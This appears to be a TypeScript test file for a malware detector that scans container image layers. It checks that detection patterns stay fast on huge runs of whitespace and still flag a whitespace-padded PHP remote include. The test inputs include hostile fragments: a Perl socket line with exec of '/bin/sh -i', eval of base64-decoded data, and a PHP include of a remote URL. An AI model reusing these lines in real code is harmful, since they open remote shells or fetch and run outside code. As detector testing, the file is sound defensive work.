import { describe, expect, it } from 'vitest';
import { judge } from '../../testkit/detect.ts';
import { DETECTORS } from './detectors.ts';
import { VOCABULARIES } from './runs/in-programs/vocabularies.ts';

/** An expression that takes the square of a run of blanks or of a word takes hours for one of these. */
const BLANKS = { newlines: '\n'.repeat(300_000), blanks: ' '.repeat(300_000) };

describe('a program with more blanks than anybody writes costs no more than its length', () => {
  it.each(
    Object.entries(BLANKS).flatMap(([name, run]) =>
      [
        `#!/usr/bin/perl\nsystem("x"); eval decode_base64("x"); unpack${run}`,
        `#!/usr/bin/perl\nuse Socket; open(STDIN, ">&S"); exec("/bin/sh -i"); socket${run}`,
        `<?php system("x"); $x = base64_decode($y); include${run}`,
        `#!/bin/sh\nf() { eval "$1"; }\n${run}f x\n`,
      ].map((text) => [name, text.slice(0, 40), text] as const),
    ),
  )('%s: %j', (_name, _head, text) => {
    const { unknowns } = judge(DETECTORS, { layers: [{ 'etc/cron.daily/a': { text, mode: 0o755 } }] });
    expect(unknowns.filter(({ reason }) => reason === 'parse-failed')).toEqual([]);
  });

  it('hides nothing behind them', () => {
    const text = `<?php include${' '.repeat(100)}(${'\n'.repeat(100)}"http://198.51.100.7/x.txt");`;
    const { findings } = judge(DETECTORS, {
      config: { Entrypoint: ['php', '/app/a.php'] },
      layers: [{ 'app/a.php': text, 'usr/bin/php': { text: '', mode: 0o755 } }],
    });
    expect(findings.map(({ rule }) => rule)).toContain('start/download-and-run');
  });
});

it.each([...VOCABULARIES])(
  'the words of %s are looked for once',
  (_language, { evaluate, decode, fetch }) => {
    for (const text of [`include${BLANKS.blanks}`, `require${BLANKS.newlines}`, 'gunzip'.repeat(100_000)])
      for (const pattern of [evaluate, decode, fetch]) expect(pattern.test(text)).toBe(false);
  },
);
